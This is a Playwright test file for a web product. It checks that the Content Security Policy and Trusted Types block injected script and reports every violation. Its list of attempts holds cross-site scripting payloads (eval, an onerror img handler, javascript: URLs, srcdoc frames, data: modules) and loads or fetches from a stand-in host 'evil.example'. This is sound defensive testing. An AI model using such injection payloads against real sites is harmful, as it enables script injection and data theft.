import type { Page } from '@playwright/test';
import { startDocumentServer } from '../federation/support/separate-product.ts';
import { product as releases } from '../support/environment.ts';
import { expect, test } from '../support/test.ts';

const element = (name: string, properties: string) =>
  `Object.assign(document.createElement('${name}'), ${properties})`;

/** Ways of running a text or a foreign file, as an injected text might try them. */
const attempts: Record<string, string> = {
  eval: `eval('globalThis.ran = true')`,
  'a function of a text': `new Function('globalThis.ran = true')()`,
  'a timer with a text': `setTimeout('globalThis.ran = true')`,
  'an inline script': `document.body.append(${element('script', "{ textContent: 'globalThis.ran = true' }")})`,
  'an inline handler': `document.body.append(${element('p', `{ innerHTML: '<img src=x onerror="ran = true">' }`)})`,
  'a handler as attribute': `document.createElement('a').setAttribute('onclick', 'globalThis.ran = true')`,
  'a script address': `location.href = 'javascript:globalThis.ran = true'`,
  'a frame of a text': `document.body.append(${element('iframe', "{ srcdoc: '<script>parent.ran = true</script>' }")})`,
  'a foreign script': `document.head.append(${element('script', "{ src: 'https://evil.example/x.js' }")})`,
  'an answer of the API as script': `document.head.append(${element('script', "{ src: '/api/openapi.json' }")})`,
  'a script in its address': `document.head.append(${element('script', "{ src: 'data:text/javascript,ran = true' }")})`,
  'a module in its address': `await import('data:text/javascript,globalThis.ran = true')`,
  'a worker of a text': `new Worker(URL.createObjectURL(new Blob(['0'])))`,
  'a gate of one’s own': `trustedTypes.createPolicy('own', { createScript: (text) => text })`,
  'another gate for all': `trustedTypes.createPolicy('default', { createScript: (text) => text })`,
  'a style attribute': `document.body.append(new DOMParser().parseFromString('<p style="color: red">', 'text/html').body)`,
  'a foreign picture': `document.body.append(${element('img', "{ src: 'https://evil.example/x.png' }")}); await 0`,
  'a call of a foreign server': `await fetch('https://evil.example/')`,
};

/** Does what Google's script does on a page with a strict policy. */
const GOOGLE_STUB = `
  const pass = (text) => text;
  const rules = { createHTML: pass, createScript: pass, createScriptURL: pass };
  const html = trustedTypes.createPolicy('google-maps-api#html', rules);
  trustedTypes.createPolicy('lit-html', rules);
  const place = document.createElement('div');
  place.innerHTML = html.createHTML('<i id="google">Karte</i>');
  const style = document.createElement('style');
  style.nonce = document.querySelector('style[nonce]').nonce;
  style.textContent = '#google { color: rgb(1, 2, 3) }';
  document.body.append(place, style);
  const text = 'fetch("data:,1").then(() => postMessage("worker done"))';
  const address = URL.createObjectURL(new Blob([text], { type: 'text/javascript' }));
  new Worker(html.createScriptURL(address)).onmessage = async ({ data }) => {
    await fetch('https://maps.googleapis.com/tile');
    globalThis.drawn = data;
  };
`;

/** Lets the page try; true when the browser refused, by an exception or by a report. */
function isRefused(page: Page, attempt: string): Promise<boolean> {
  // From a timer, because what the debugger itself evaluates may do more than the page.
  return page.evaluate(`new Promise((resolve) => setTimeout(async () => {
    let refused = false;
    const note = () => { refused = true; };
    document.addEventListener('securitypolicyviolation', note);
    try {
      ${attempt};
    } catch {
      refused = true;
    }
    const decided = () => refused || 'ran' in globalThis;
    const until = performance.now() + 10_000;
    while (!decided() && performance.now() < until) await new Promise((next) => setTimeout(next, 20));
    document.removeEventListener('securitypolicyviolation', note);
    resolve(refused);
  }))`);
}

test.describe('what a page may not do', { tag: ['@host', '@desktop', '@own'] }, () => {
  test('no text runs, nothing foreign is loaded, and the server hears of every attempt', async ({
    page,
    context,
    request,
    signIn,
    pool,
    watch,
  }) => {
    watch.expect(/./);
    const product = await startDocumentServer(releases.store, {});
    await signIn('free', product.url);
    await page.goto(product.url);
    await pool.isShown();
    const reports = async () => (await request.get(`${product.url}/reports/security`)).json();
    expect(await reports()).toEqual({ total: 0, latest: [] });

    for (const [name, attempt] of Object.entries(attempts)) {
      expect(await isRefused(page, attempt), name).toBe(true);
    }
    expect(await page.evaluate(() => 'ran' in globalThis)).toBe(false);
    await expect.poll(async () => (await reports()).total).toBeGreaterThanOrEqual(12);

    await context.close();
    await product.stop();
  });

  test('the probe itself: without the policy texts do run', async ({ page, watch }) => {
    watch.expect(/./);
    await page.route('**/login', async (route) => {
      const response = await route.fetch();
      const { 'content-security-policy': _, ...headers } = response.headers();
      await route.fulfill({ response, headers });
    });
    await page.goto('/login');
    expect(await isRefused(page, attempts.eval ?? '')).toBe(false);
    expect(await page.evaluate(() => 'ran' in globalThis)).toBe(true);
  });

  test('with a maps key, what Google’s guide asks for is let in, and nothing beside it', async ({
    page,
    context,
    request,
    watch,
  }) => {
    watch.expect(/./);
    const product = await startDocumentServer(releases.store, { MAPS_KEY: 'key' });
    const foreign = { 'access-control-allow-origin': '*' };
    await context.route(/googleapis|gstatic/, (route) =>
      route.fulfill({ contentType: 'text/javascript', headers: foreign, body: GOOGLE_STUB }),
    );
    // The host's policy for addresses of scripts is there when the page is loaded.
    await context.addCookies([{ name: 'firstView', value: 'off', url: product.url }]);
    await page.goto(`${product.url}/login`);
    await page.evaluate(
      `document.head.append(${element('script', "{ src: 'https://maps.googleapis.com/maps/api/js?key=key' }")})`,
    );
    await expect.poll(() => page.evaluate('globalThis.drawn')).toBe('worker done');
    expect(await page.evaluate("getComputedStyle(document.querySelector('#google')).color")).toBe(
      'rgb(1, 2, 3)',
    );
    const reports = async () => (await request.get(`${product.url}/reports/security`)).json();
    expect(await reports()).toEqual({ total: 0, latest: [] });
    for (const name of ['a foreign script', 'a foreign picture', 'a call of a foreign server']) {
      expect(await isRefused(page, attempts[name] ?? ''), name).toBe(true);
    }
    await context.close();
    await product.stop();
  });
});
